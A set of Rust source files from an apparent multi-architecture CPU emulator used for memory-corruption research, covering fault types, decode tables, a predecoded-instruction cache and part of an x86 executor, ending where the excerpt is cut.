        /// Bytes written past the buffer's end.
        extent: u32,
        /// Program counter of the first out-of-bounds store.
        pc: Addr,
    },
}

impl Fault {
    /// The program counter most relevant to the fault, when one exists.
    /// For a hijacked return this is the attacker-controlled value — the
    /// datum offset discovery needs.
    pub fn pc(&self) -> Option<Addr> {
        match *self {
            Fault::UnmappedRead { pc, .. }
            | Fault::UnmappedWrite { pc, .. }
            | Fault::UnmappedFetch { pc }
            | Fault::ProtectedRead { pc, .. }
            | Fault::ProtectedWrite { pc, .. }
            | Fault::NxViolation { pc, .. }
            | Fault::IllegalInstruction { pc, .. }
            | Fault::UnalignedFetch { pc }
            | Fault::UnknownSyscall { pc, .. }
            | Fault::CfiViolation { pc, .. }
            | Fault::RedzoneViolation { pc, .. } => Some(pc),
            Fault::CanarySmashed { .. } | Fault::StepLimit { .. } => None,
        }
    }

    /// Whether this fault is the kind a crashed daemon would log as a
    /// segmentation violation (the paper's "SIGSEV").
    pub fn is_segfault(&self) -> bool {
        matches!(
            self,
            Fault::UnmappedRead { .. }
                | Fault::UnmappedWrite { .. }
                | Fault::UnmappedFetch { .. }
                | Fault::ProtectedRead { .. }
                | Fault::ProtectedWrite { .. }
                | Fault::NxViolation { .. }
        )
    }
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Fault::UnmappedRead { addr, pc } => {
                write!(f, "read of unmapped {addr:#010x} at pc {pc:#010x}")
            }
            Fault::UnmappedWrite { addr, pc } => {
                write!(f, "write to unmapped {addr:#010x} at pc {pc:#010x}")
            }
            Fault::UnmappedFetch { pc } => write!(f, "fetch from unmapped {pc:#010x}"),
            Fault::ProtectedRead { addr, perms, pc } => {
                write!(f, "read of {addr:#010x} ({perms}) denied at pc {pc:#010x}")
            }
            Fault::ProtectedWrite { addr, perms, pc } => {
                write!(f, "write to {addr:#010x} ({perms}) denied at pc {pc:#010x}")
            }
            Fault::NxViolation { pc, perms } => {
                write!(f, "fetch from non-executable {pc:#010x} ({perms})")
            }
            Fault::IllegalInstruction { pc, bytes } => write!(
                f,
                "illegal instruction at {pc:#010x}: {:02x} {:02x} {:02x} {:02x}",
                bytes[0], bytes[1], bytes[2], bytes[3]
            ),
            Fault::UnalignedFetch { pc } => write!(f, "unaligned insn fetch at {pc:#010x}"),
            Fault::UnknownSyscall { number, pc } => {
                write!(f, "unknown syscall {number} at pc {pc:#010x}")
            }
            Fault::CfiViolation { target, expected, pc } => match expected {
                Some(e) => write!(
                    f,
                    "cfi violation at {pc:#010x}: return to {target:#010x}, shadow expected {e:#010x}"
                ),
                None => write!(
                    f,
                    "cfi violation at {pc:#010x}: return to {target:#010x} with empty shadow stack"
                ),
            },
            Fault::CanarySmashed { found, expected } => write!(
                f,
                "stack canary smashed: found {found:#010x}, expected {expected:#010x}"
            ),
            Fault::StepLimit { limit } => write!(f, "step limit of {limit} exhausted"),
            Fault::RedzoneViolation {
                buffer,
                capacity,
                first,
                extent,
                pc,
            } => write!(
                f,
                "sanitizer: {extent}-byte overflow of {capacity}-byte buffer at {buffer:#010x} \
                 (first oob write {first:#010x}, pc {pc:#010x})"
            ),
        }
    }
}

impl Error for Fault {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pc_extraction() {
        assert_eq!(
            Fault::UnmappedFetch { pc: 0x41414141 }.pc(),
            Some(0x41414141)
        );
        assert_eq!(
            Fault::CanarySmashed {
                found: 0,
                expected: 1
            }
            .pc(),
            None
        );
        assert_eq!(
            Fault::NxViolation {
                pc: 0xbffff000,
                perms: Perms::RW
            }
            .pc(),
            Some(0xbffff000)
        );
    }

    #[test]
    fn segfault_classification() {
        assert!(Fault::UnmappedFetch { pc: 0 }.is_segfault());
        assert!(Fault::NxViolation {
            pc: 0,
            perms: Perms::RW
        }
        .is_segfault());
        assert!(!Fault::StepLimit { limit: 10 }.is_segfault());
        assert!(!Fault::CanarySmashed {
            found: 0,
            expected: 1
        }
        .is_segfault());
    }

    #[test]
    fn display_mentions_addresses() {
        let s = Fault::UnmappedFetch { pc: 0x6161_6161 }.to_string();
        assert!(s.contains("0x61616161"));
    }
}
