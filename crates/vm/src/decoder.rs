//! Declarative decode tables shared by all three ISAs.
//!
//! Each instruction set describes its encodings as a flat table of
//! [`Rule`]s — a mnemonic, a fixed-bit pattern (`word & mask == bits`),
//! and a field-extraction function — declared with the
//! [`decode_table!`](crate::decode_table) macro. The generic matcher [`find`] walks the table in declaration
//! order and returns the first rule whose fixed bits match, so every ISA
//! shares one decode skeleton:
//!
//! ```text
//! bytes → key word → find(TABLE, word) → (rule.decode)(…) → Insn
//! ```
//!
//! The key-word type is per-ISA: x86 keys on the first opcode byte
//! (`u8`) and hands the extractor the full byte window (variable-length
//! encodings), ARM keys on the A32 word (`u32`), and RISC-V keys the C
//! extension on the 16-bit parcel (`u16`) and base RV32I on the 32-bit
//! word (`u32`). Adding a fourth ISA is one more table plus an
//! executor — the matcher, cache plumbing, and block/IR builders are
//! already ISA-blind.
//!
//! Tables are data, so they are also *inspectable*: the disassembler
//! tests and the decode-table-vs-hand-rolled bench ablation iterate the
//! same rules the decoder matches, and each ISA keeps its original
//! hand-rolled decoder as a reference implementation pinned against the
//! table by differential tests.

/// One encoding rule: `word & mask == bits` selects it, `decode`
/// extracts the operand fields.
pub struct Rule<W: 'static, D: 'static> {
    /// Mnemonic, for table inspection and decoder diagnostics.
    pub mnemonic: &'static str,
    /// Fixed-bit mask.
    pub mask: W,
    /// Required values of the fixed bits.
    pub bits: W,
    /// Field extractor. Per-ISA signature: returns the decoded
    /// instruction, or `None`/an error when variable fields are outside
    /// the supported subset (first-match-wins makes the rule final).
    pub decode: D,
}

/// Key-word types a table can match on.
pub trait Key: Copy + Eq {
    /// `self & mask == bits`.
    fn matches(self, mask: Self, bits: Self) -> bool;
}

macro_rules! impl_key {
    ($($t:ty),*) => {$(
        impl Key for $t {
            #[inline]
            fn matches(self, mask: Self, bits: Self) -> bool {
                self & mask == bits
            }
        }
    )*};
}

impl_key!(u8, u16, u32);

/// Returns the first rule whose fixed bits match `word`, in declaration
/// order. Linear scan: the tables are small (tens of rules), branch
/// predictable, and cold — the predecode cache means each pc is decoded
/// once per generation.
#[inline]
pub fn find<W: Key, D>(rules: &'static [Rule<W, D>], word: W) -> Option<&'static Rule<W, D>> {
    rules.iter().find(|r| word.matches(r.mask, r.bits))
}

/// Declares a static decode table.
///
/// ```ignore
/// decode_table! {
///     /// RV32I major opcodes.
///     pub static RV32: u32 => fn(u32) -> Option<Insn> {
///         "lui"   => (0x0000_007F, 0x0000_0037, |w| Some(lui(w))),
///         "auipc" => (0x0000_007F, 0x0000_0017, |w| Some(auipc(w))),
///     }
/// }
/// ```
#[macro_export]
macro_rules! decode_table {
    (
        $(#[$meta:meta])*
        $vis:vis static $name:ident: $w:ty => $d:ty {
            $( $mn:literal => ($mask:expr, $bits:expr, $f:expr) ),* $(,)?
        }
    ) => {
        $(#[$meta])*
        $vis static $name: &[$crate::decoder::Rule<$w, $d>] = &[
            $(
                $crate::decoder::Rule {
                    mnemonic: $mn,
                    mask: $mask,
                    bits: $bits,
                    decode: $f,
                }
            ),*
        ];
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    decode_table! {
        static DEMO: u16 => fn(u16) -> Option<u32> {
            "wide"   => (0xF000, 0xA000, |w| Some(w as u32 | 0x1_0000)),
            "narrow" => (0xFF00, 0xAB00, |w| Some(w as u32)),
            "gated"  => (0xF000, 0xB000, |w| (w & 1 == 0).then_some(42)),
        }
    }

    #[test]
    fn first_match_wins_in_declaration_order() {
        // 0xAB12 matches both "wide" and "narrow"; declaration order
        // picks "wide".
        let r = find(DEMO, 0xAB12).unwrap();
        assert_eq!(r.mnemonic, "wide");
        assert_eq!((r.decode)(0xAB12), Some(0x1AB12));
    }

    #[test]
    fn no_match_returns_none() {
        assert!(find(DEMO, 0x1234).is_none());
    }

    #[test]
    fn extractor_can_reject_variable_fields() {
        let r = find(DEMO, 0xB001).unwrap();
        assert_eq!(r.mnemonic, "gated");
        assert_eq!((r.decode)(0xB001), None, "odd word rejected");
        assert_eq!((find(DEMO, 0xB002).unwrap().decode)(0xB002), Some(42));
    }
}
