//! Predecoded-instruction cache.
//!
//! Decoding is pure — the same bytes at the same pc always decode to the
//! same [`Insn`](crate::x86::Insn) — so the fetch/decode half of the
//! interpreter loop can be memoised. The cache is owned by
//! [`Memory`](crate::Memory) and uses *push* invalidation: every path
//! that can change code bytes or their executability (`write_u8`,
//! `poke`, `set_perms`, `map`) notifies the cache directly, so a cache
//! hit needs **no** validation — no permission re-check, no generation
//! compare. This keeps self-modifying shellcode and per-boot reloads
//! correct while the hot path is a single probe of an open-addressing
//! table.
//!
//! Invalidation is deliberately coarse (any write to a page that holds
//! cached decodes flushes the whole table): flushes are rare — code is
//! written in bursts and then executed — and coarse flushing keeps the
//! write path to one compare in the common sequential-write case.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use cml_image::Addr;

use crate::ir::IrBlock;
use crate::{arm, riscv, x86};

/// Process-wide default for the threaded-code IR dispatcher, read when a
/// [`DecodeCache`] (and so a machine) is created. Lets the bench/CLI
/// layer force the interpreter fallback for every machine a campaign
/// spawns without plumbing a flag through the firmware constructors.
pub(crate) static IR_DEFAULT: AtomicBool = AtomicBool::new(true);

/// Reads [`IR_DEFAULT`].
pub(crate) fn ir_default() -> bool {
    IR_DEFAULT.load(Ordering::Relaxed)
}

/// Writes [`IR_DEFAULT`].
pub(crate) fn set_ir_default(on: bool) {
    IR_DEFAULT.store(on, Ordering::Relaxed);
}

/// Pages are the invalidation granule.
pub(crate) const PAGE_SIZE: u32 = 0x1000;
pub(crate) const PAGE_MASK: u32 = !(PAGE_SIZE - 1);

/// A memoised decode for either ISA.
#[derive(Debug, Clone, Copy)]
pub(crate) enum CachedInsn {
    /// x86 instruction plus its encoded length.
    X86(x86::Insn, u8),
    /// ARM instructions are always 4 bytes.
    Arm(arm::Insn),
    /// RISC-V instruction (RVC forms pre-expanded to RV32I) plus its
    /// encoded length: 2 for a compressed parcel, 4 for a base word.
    Riscv(riscv::Insn, u8),
}

impl CachedInsn {
    /// Encoded length of the instruction in bytes.
    pub(crate) fn byte_len(self) -> u32 {
        match self {
            CachedInsn::X86(_, len) => len as u32,
            CachedInsn::Arm(_) => 4,
            CachedInsn::Riscv(_, len) => len as u32,
        }
    }
}

/// A fused basic block: a straight-line run of predecoded instructions
/// ending at the first control-flow instruction (or a hook/decode
/// boundary). Executed as a unit by [`Machine::run`](crate::Machine),
/// with one table probe instead of one per instruction.
#[derive(Debug)]
pub(crate) struct Block {
    /// The decoded instructions, in address order.
    pub(crate) insns: Vec<CachedInsn>,
}

#[derive(Debug, Clone)]
struct BlockEntry {
    pc: Addr,
    block: Arc<Block>,
}

#[derive(Debug, Clone)]
struct IrEntry {
    pc: Addr,
    block: Arc<IrBlock>,
}

#[derive(Debug, Clone, Copy)]
struct Entry {
    pc: Addr,
    insn: CachedInsn,
}

/// Open-addressing pc → decoded-instruction table.
///
/// Starts empty (a machine that never executes pays nothing), grows
/// geometrically from a small table so short-lived machines pay a few
/// hundred nanoseconds at most.
#[derive(Debug, Clone)]
pub(crate) struct DecodeCache {
    enabled: bool,
    /// Whether fused-block dispatch may use the block table (per-insn
    /// entries stay usable either way).
    blocks_enabled: bool,
    /// Whether the threaded-code IR dispatcher may use the IR table
    /// (block and per-insn entries stay usable either way).
    ir_enabled: bool,
    slots: Vec<Option<Entry>>,
    len: usize,
    block_slots: Vec<Option<BlockEntry>>,
    block_len: usize,
    ir_slots: Vec<Option<IrEntry>>,
    ir_len: usize,
    /// Sorted page bases that contain (or contribute bytes to) cached
    /// decodes. Writes consult this to decide whether to flush.
    code_pages: Vec<u32>,
    /// Last page verified *not* to hold cached decodes — dedups the
    /// `code_pages` lookup for sequential write bursts.
    last_clean_page: Option<u32>,
    /// Bumped on every flush; the block executor snapshots it so a
    /// self-modifying write mid-block aborts fused dispatch.
    generation: u64,
    hits: u64,
    misses: u64,
}

impl Default for DecodeCache {
    fn default() -> Self {
        DecodeCache {
            enabled: true,
            blocks_enabled: true,
            ir_enabled: ir_default(),
            slots: Vec::new(),
            len: 0,
            block_slots: Vec::new(),
            block_len: 0,
            ir_slots: Vec::new(),
            ir_len: 0,
            code_pages: Vec::new(),
            last_clean_page: None,
            generation: 0,
            hits: 0,
            misses: 0,
        }
    }
}

const INITIAL_SLOTS: usize = 256;

fn hash(pc: Addr) -> usize {
    (pc.wrapping_mul(0x9E37_79B1)) as usize
}

impl DecodeCache {
    /// Turns the cache on or off (off = decode every step; used by the
    /// ablation benchmark). Disabling drops all cached decodes.
    pub(crate) fn set_enabled(&mut self, on: bool) {
        self.enabled = on;
        if !on {
            self.flush();
            self.slots = Vec::new();
            self.block_slots = Vec::new();
            self.ir_slots = Vec::new();
        }
    }

    pub(crate) fn enabled(&self) -> bool {
        self.enabled
    }

    /// Turns fused-block dispatch on or off (on by default; the
    /// `block_vs_insn` ablation runs with it off). Per-instruction
    /// caching is unaffected. Disabling drops all cached blocks.
    pub(crate) fn set_blocks_enabled(&mut self, on: bool) {
        self.blocks_enabled = on;
        if !on && self.block_len > 0 {
            self.block_slots = Vec::new();
            self.block_len = 0;
        }
    }

    pub(crate) fn blocks_enabled(&self) -> bool {
        self.blocks_enabled
    }

    /// Turns the threaded-code IR dispatcher on or off for this machine
    /// (the `ir_vs_block` ablation and the CI interpreter-fallback run
    /// turn it off). Disabling drops all lowered blocks.
    pub(crate) fn set_ir_enabled(&mut self, on: bool) {
        self.ir_enabled = on;
        if !on && self.ir_len > 0 {
            self.ir_slots = Vec::new();
            self.ir_len = 0;
        }
    }

    pub(crate) fn ir_enabled(&self) -> bool {
        self.ir_enabled
    }

    /// Flush-generation counter; bumped whenever cached state is dropped.
    pub(crate) fn generation(&self) -> u64 {
        self.generation
    }

    /// `(hits, misses)` counters.
    pub(crate) fn stats(&self) -> (u64, u64) {
        (self.hits, self.misses)
    }

    /// Looks up a memoised decode. A hit is valid by construction: any
    /// mutation since insertion would have flushed the table.
    pub(crate) fn get(&mut self, pc: Addr) -> Option<CachedInsn> {
        if !self.enabled {
            return None;
        }
        if self.slots.is_empty() {
            self.misses += 1;
            return None;
        }
        let mask = self.slots.len() - 1;
        let mut i = hash(pc) & mask;
        loop {
            match self.slots[i] {
                Some(e) if e.pc == pc => {
                    self.hits += 1;
                    return Some(e.insn);
                }
                Some(_) => i = (i + 1) & mask,
                None => {
                    self.misses += 1;
                    return None;
                }
            }
        }
    }

    /// Memoises a successful decode of `byte_len` bytes at `pc`.
    pub(crate) fn insert(&mut self, pc: Addr, insn: CachedInsn, byte_len: u32) {
        if !self.enabled {
            return;
        }
        if self.slots.len() * 3 <= (self.len + 1) * 4 {
            self.grow();
        }
        let mask = self.slots.len() - 1;
        let mut i = hash(pc) & mask;
        loop {
            match &self.slots[i] {
                Some(e) if e.pc == pc => break,
                Some(_) => i = (i + 1) & mask,
                None => {
                    self.slots[i] = Some(Entry { pc, insn });
                    self.len += 1;
                    break;
                }
            }
        }
        // Record every page the encoding touches so writes to any of
        // them (including the tail page of a straddling x86 insn) flush.
        let first = pc & PAGE_MASK;
        let last = pc.wrapping_add(byte_len.saturating_sub(1)) & PAGE_MASK;
        self.note_code_page(first);
        if last != first {
            self.note_code_page(last);
        }
    }

    /// Looks up a fused block starting at `pc`. Like per-insn entries, a
    /// hit is valid by construction (push invalidation).
    pub(crate) fn get_block(&mut self, pc: Addr) -> Option<Arc<Block>> {
        if !self.enabled || !self.blocks_enabled || self.block_slots.is_empty() {
            return None;
        }
        let mask = self.block_slots.len() - 1;
        let mut i = hash(pc) & mask;
        loop {
            match &self.block_slots[i] {
                Some(e) if e.pc == pc => return Some(Arc::clone(&e.block)),
                Some(_) => i = (i + 1) & mask,
                None => return None,
            }
        }
    }

    /// Memoises a fused block whose encodings span `span` bytes at `pc`.
    pub(crate) fn insert_block(&mut self, pc: Addr, block: Arc<Block>, span: u32) {
        if !self.enabled || !self.blocks_enabled {
            return;
        }
        if self.block_slots.len() * 3 <= (self.block_len + 1) * 4 {
            self.grow_blocks();
        }
        let mask = self.block_slots.len() - 1;
        let mut i = hash(pc) & mask;
        loop {
            match &self.block_slots[i] {
                Some(e) if e.pc == pc => break,
                Some(_) => i = (i + 1) & mask,
                None => {
                    self.block_slots[i] = Some(BlockEntry { pc, block });
                    self.block_len += 1;
                    break;
                }
            }
        }
        // Every page the block's encodings touch must flush on write.
        let mut page = pc & PAGE_MASK;
        let last = pc.wrapping_add(span.saturating_sub(1)) & PAGE_MASK;
        loop {
            self.note_code_page(page);
            if page == last {
                break;
            }
            page = page.wrapping_add(PAGE_SIZE);
        }
    }

    /// Looks up a lowered IR block starting at `pc`. Valid by
    /// construction, like the other two tables (push invalidation), and
    /// additionally hook-free by construction: hook registration flushes,
    /// and the builder refuses hooked start addresses, so a hit never
    /// needs the per-entry hook probe `step_block` pays.
    pub(crate) fn get_ir(&mut self, pc: Addr) -> Option<Arc<IrBlock>> {
        if !self.enabled || !self.ir_enabled || self.ir_slots.is_empty() {
            return None;
        }
        let mask = self.ir_slots.len() - 1;
        let mut i = hash(pc) & mask;
        loop {
            match &self.ir_slots[i] {
                Some(e) if e.pc == pc => return Some(Arc::clone(&e.block)),
                Some(_) => i = (i + 1) & mask,
                None => return None,
            }
        }
    }

    /// Memoises a lowered IR block whose encodings span `span` bytes.
    pub(crate) fn insert_ir(&mut self, pc: Addr, block: Arc<IrBlock>, span: u32) {
        if !self.enabled || !self.ir_enabled {
            return;
        }
        if self.ir_slots.len() * 3 <= (self.ir_len + 1) * 4 {
            self.grow_ir();
        }
        let mask = self.ir_slots.len() - 1;
        let mut i = hash(pc) & mask;
        loop {
            match &self.ir_slots[i] {
                Some(e) if e.pc == pc => break,
                Some(_) => i = (i + 1) & mask,
                None => {
                    self.ir_slots[i] = Some(IrEntry { pc, block });
                    self.ir_len += 1;
                    break;
                }
            }
        }
        let mut page = pc & PAGE_MASK;
        let last = pc.wrapping_add(span.saturating_sub(1)) & PAGE_MASK;
        loop {
            self.note_code_page(page);
            if page == last {
                break;
            }
            page = page.wrapping_add(PAGE_SIZE);
        }
    }

    fn grow_ir(&mut self) {
        let cap = if self.ir_slots.is_empty() {
            INITIAL_SLOTS
        } else {
            self.ir_slots.len() * 4
        };
        let old = std::mem::replace(&mut self.ir_slots, vec![None; cap]);
        let mask = cap - 1;
        for e in old.into_iter().flatten() {
            let mut i = hash(e.pc) & mask;
            while self.ir_slots[i].is_some() {
                i = (i + 1) & mask;
            }
            self.ir_slots[i] = Some(e);
        }
    }

    fn grow_blocks(&mut self) {
        let cap = if self.block_slots.is_empty() {
            INITIAL_SLOTS
        } else {
            self.block_slots.len() * 4
        };
        let old = std::mem::replace(&mut self.block_slots, vec![None; cap]);
        let mask = cap - 1;
        for e in old.into_iter().flatten() {
            let mut i = hash(e.pc) & mask;
            while self.block_slots[i].is_some() {
                i = (i + 1) & mask;
            }
            self.block_slots[i] = Some(e);
        }
    }

    fn note_code_page(&mut self, page: u32) {
        if let Err(at) = self.code_pages.binary_search(&page) {
            self.code_pages.insert(at, page);
            // The page just became cache-backed; a previous "clean"
            // verdict for it no longer holds.
            self.last_clean_page = None;
        }
    }

    fn grow(&mut self) {
        let cap = if self.slots.is_empty() {
            INITIAL_SLOTS
        } else {
            self.slots.len() * 4
        };
        let old = std::mem::replace(&mut self.slots, vec![None; cap]);
        let mask = cap - 1;
        for e in old.into_iter().flatten() {
            let mut i = hash(e.pc) & mask;
            while self.slots[i].is_some() {
                i = (i + 1) & mask;
            }
            self.slots[i] = Some(e);
        }
    }

    /// A byte at `addr` is about to change. One compare in the common
    /// case (sequential writes to a non-code page); flushes the table
    /// when the page holds cached decodes.
    #[inline]
    pub(crate) fn note_write(&mut self, addr: Addr) {
        let page = addr & PAGE_MASK;
        if self.last_clean_page == Some(page) {
            return;
        }
        if self.code_pages.binary_search(&page).is_ok() {
            self.flush();
        }
        self.last_clean_page = Some(page);
    }

    /// A whole range is about to change (chunked writes / pokes).
    pub(crate) fn note_write_range(&mut self, addr: Addr, len: usize) {
        let mut page = addr & PAGE_MASK;
        let last = addr.wrapping_add(len.saturating_sub(1) as u32) & PAGE_MASK;
        loop {
            self.note_write(page);
            if page == last {
                break;
            }
            page = page.wrapping_add(PAGE_SIZE);
        }
    }

    /// Drops every cached decode and block (permission change, new
    /// mapping, hook registration, snapshot restore, or a write to a
    /// cached page).
    pub(crate) fn flush(&mut self) {
        if self.len > 0 {
            self.slots.iter_mut().for_each(|s| *s = None);
            self.len = 0;
        }
        if self.block_len > 0 {
            self.block_slots.iter_mut().for_each(|s| *s = None);
            self.block_len = 0;
        }
        if self.ir_len > 0 {
            self.ir_slots.iter_mut().for_each(|s| *s = None);
            self.ir_len = 0;
        }
        self.code_pages.clear();
        self.last_clean_page = None;
        self.generation = self.generation.wrapping_add(1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn x86_nop() -> CachedInsn {
        CachedInsn::X86(x86::Insn::Nop, 1)
    }

    #[test]
    fn get_insert_roundtrip_and_stats() {
        let mut c = DecodeCache::default();
        assert!(c.get(0x1000).is_none());
        c.insert(0x1000, x86_nop(), 1);
        assert!(matches!(
            c.get(0x1000),
            Some(CachedInsn::X86(x86::Insn::Nop, 1))
        ));
        assert_eq!(c.stats(), (1, 1));
    }

    #[test]
    fn write_to_cached_page_flushes() {
        let mut c = DecodeCache::default();
        c.insert(0x1000, x86_nop(), 1);
        c.note_write(0x8000); // unrelated page: no flush
        assert!(c.get(0x1000).is_some());
        c.note_write(0x1A00); // same page as the cached pc
        assert!(c.get(0x1000).is_none());
    }

    #[test]
    fn clean_page_verdict_is_revoked_when_page_becomes_cached() {
        let mut c = DecodeCache::default();
        c.note_write(0x1004); // page 0x1000 marked clean
        c.insert(0x1000, x86_nop(), 1); // …now it holds a decode
        c.note_write(0x1004); // must flush despite the earlier verdict
        assert!(c.get(0x1000).is_none());
    }

    #[test]
    fn straddling_insert_tracks_tail_page() {
        let mut c = DecodeCache::default();
        c.insert(0x1FFE, CachedInsn::X86(x86::Insn::Nop, 5), 5);
        c.note_write(0x2001); // tail page of the straddling encoding
        assert!(c.get(0x1FFE).is_none());
    }

    #[test]
    fn grows_past_initial_capacity() {
        let mut c = DecodeCache::default();
        for i in 0..2_000u32 {
            c.insert(0x1000 + i, x86_nop(), 1);
        }
        for i in 0..2_000u32 {
            assert!(c.get(0x1000 + i).is_some(), "entry {i} survived growth");
        }
    }
}
