//! IA-32 execution.

use cml_image::Addr;

use crate::hooks;
use crate::machine::{Machine, RunOutcome};
use crate::regs::X86Reg;
use crate::Fault;

use super::insn::{decode, DecodeError, Insn, Operand};

/// Longest instruction in the subset (opcode + ModRM + SIB + disp32 +
/// imm still stays well under 16).
const FETCH_WINDOW: usize = 16;

fn illegal(m: &Machine, pc: Addr) -> Fault {
    let mut bytes = [0u8; 4];
    for (i, b) in bytes.iter_mut().enumerate() {
        *b = m.mem.read_u8(pc.wrapping_add(i as u32), pc).unwrap_or(0);
    }
    Fault::IllegalInstruction { pc, bytes }
}

fn operand_addr(m: &Machine, base: Option<X86Reg>, disp: i32) -> Addr {
    let b = base.map_or(0, |r| m.regs.x86().get(r));
    b.wrapping_add(disp as u32)
}

fn read_operand(m: &Machine, op: Operand, pc: Addr) -> Result<u32, Fault> {
    match op {
        Operand::Reg(r) => Ok(m.regs.x86().get(r)),
        Operand::Mem { base, disp } => m.mem.read_u32(operand_addr(m, base, disp), pc),
    }
}

fn write_operand(m: &mut Machine, op: Operand, v: u32, pc: Addr) -> Result<(), Fault> {
    match op {
        Operand::Reg(r) => {
            m.regs.x86_mut().set(r, v);
            Ok(())
        }
        Operand::Mem { base, disp } => {
            let addr = operand_addr(m, base, disp);
            m.mem.write_u32(addr, v, pc)
        }
    }
}

/// Fetches and decodes the instruction at `pc`, going through the
/// predecoded-instruction cache (a hit skips fetch and decode entirely;
/// the cache is push-invalidated by every write/permission path, so a
/// hit is valid by construction).
pub(crate) fn decode_at(m: &mut Machine, pc: Addr) -> Result<(Insn, usize), Fault> {
    match m.mem.dcache_get(pc) {
        Some(crate::dcache::CachedInsn::X86(insn, len)) => Ok((insn, len as usize)),
        _ => {
            let mut window = [0u8; FETCH_WINDOW];
            let n = m.mem.fetch_into(pc, &mut window)?;
            let (insn, len) = match decode(&window[..n]) {
                Ok(v) => v,
                Err(DecodeError::Truncated) | Err(DecodeError::Unsupported(_)) => {
                    return Err(illegal(m, pc));
                }
            };
            m.mem.dcache_insert(
                pc,
                crate::dcache::CachedInsn::X86(insn, len as u8),
                len as u32,
            );
            Ok((insn, len))
        }
    }
}

/// Whether `insn` terminates a fused basic block: anything that can set
/// the pc to something other than the fall-through address (the block
/// builder stops decoding here — the textbook basic-block boundary).
pub(crate) fn ends_block(insn: &Insn) -> bool {
    matches!(
        insn,
        Insn::Ret
            | Insn::RetImm16(_)
            | Insn::CallRel32(_)
            | Insn::CallRm(_)
            | Insn::JmpRm(_)
            | Insn::JmpRel8(_)
            | Insn::JmpRel32(_)
            | Insn::Jz8(_)
            | Insn::Jnz8(_)
            | Insn::Jz32(_)
            | Insn::Jnz32(_)
            | Insn::Int80
            | Insn::Hlt
    )
}

/// Executes one x86 instruction at the current `eip`.
pub(crate) fn step(m: &mut Machine) -> Result<Option<RunOutcome>, Fault> {
    let pc = m.regs.pc();
    let (insn, len) = decode_at(m, pc)?;
    exec_insn(m, insn, len, pc)
}

/// Executes an already-decoded instruction of `len` encoded bytes at
/// `pc` — the semantic half of [`step`], shared with the fused-block
/// dispatcher so both modes are one implementation.
pub(crate) fn exec_insn(
    m: &mut Machine,
    insn: Insn,
    len: usize,
    pc: Addr,
) -> Result<Option<RunOutcome>, Fault> {
    let next = pc.wrapping_add(len as u32);
    // Default fall-through; control-flow instructions overwrite it below.
    m.regs.set_pc(next);
    match insn {
        Insn::Nop => {}
        Insn::PushR(r) => {
            let v = m.regs.x86().get(r);
            m.push_u32(v)?;
        }
        Insn::PopR(r) => {
            let v = m.pop_u32()?;
            m.regs.x86_mut().set(r, v);
        }
        Insn::PushImm(v) => m.push_u32(v)?,
        Insn::MovRImm(r, v) => m.regs.x86_mut().set(r, v),
        Insn::MovR8Imm(r, v) => {
            let old = m.regs.x86().get(r);
            m.regs.x86_mut().set(r, (old & 0xFFFF_FF00) | v as u32);
        }
        Insn::MovRmR { dst, src } => {
            let v = m.regs.x86().get(src);
            write_operand(m, dst, v, pc)?;
        }
        Insn::MovRRm { dst, src } => {
            let v = read_operand(m, src, pc)?;
            m.regs.x86_mut().set(dst, v);
        }
        Insn::XorRmR { dst, src } => {
            let v = read_operand(m, dst, pc)? ^ m.regs.x86().get(src);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::AddRmImm8 { dst, imm } => {
            let v = read_operand(m, dst, pc)?.wrapping_add(imm as i32 as u32);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::SubRmImm8 { dst, imm } => {
            let v = read_operand(m, dst, pc)?.wrapping_sub(imm as i32 as u32);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::CmpRmImm8 { dst, imm } => {
            let v = read_operand(m, dst, pc)?.wrapping_sub(imm as i32 as u32);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::AddRmImm32 { dst, imm } => {
            let v = read_operand(m, dst, pc)?.wrapping_add(imm);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::SubRmImm32 { dst, imm } => {
            let v = read_operand(m, dst, pc)?.wrapping_sub(imm);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::CmpRmImm32 { dst, imm } => {
            let v = read_operand(m, dst, pc)?.wrapping_sub(imm);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::AndRmR { dst, src } => {
            let v = read_operand(m, dst, pc)? & m.regs.x86().get(src);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::OrRmR { dst, src } => {
            let v = read_operand(m, dst, pc)? | m.regs.x86().get(src);
            write_operand(m, dst, v, pc)?;
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::CmpRmR { dst, src } => {
            let v = read_operand(m, dst, pc)?.wrapping_sub(m.regs.x86().get(src));
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::TestRmR { dst, src } => {
            let v = read_operand(m, dst, pc)? & m.regs.x86().get(src);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::ShlRImm8 { reg, imm } => {
            let v = m.regs.x86().get(reg).wrapping_shl(imm as u32 & 31);
            m.regs.x86_mut().set(reg, v);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::ShrRImm8 { reg, imm } => {
            let v = m.regs.x86().get(reg).wrapping_shr(imm as u32 & 31);
            m.regs.x86_mut().set(reg, v);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::Lea { dst, src } => {
            let addr = match src {
                Operand::Mem { base, disp } => operand_addr(m, base, disp),
                Operand::Reg(_) => return Err(illegal(m, pc)),
            };
            m.regs.x86_mut().set(dst, addr);
        }
        Insn::XchgEaxR(r) => {
            let eax = m.regs.x86().get(X86Reg::Eax);
            let other = m.regs.x86().get(r);
            m.regs.x86_mut().set(X86Reg::Eax, other);
            m.regs.x86_mut().set(r, eax);
        }
        Insn::IncR(r) => {
            let v = m.regs.x86().get(r).wrapping_add(1);
            m.regs.x86_mut().set(r, v);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::DecR(r) => {
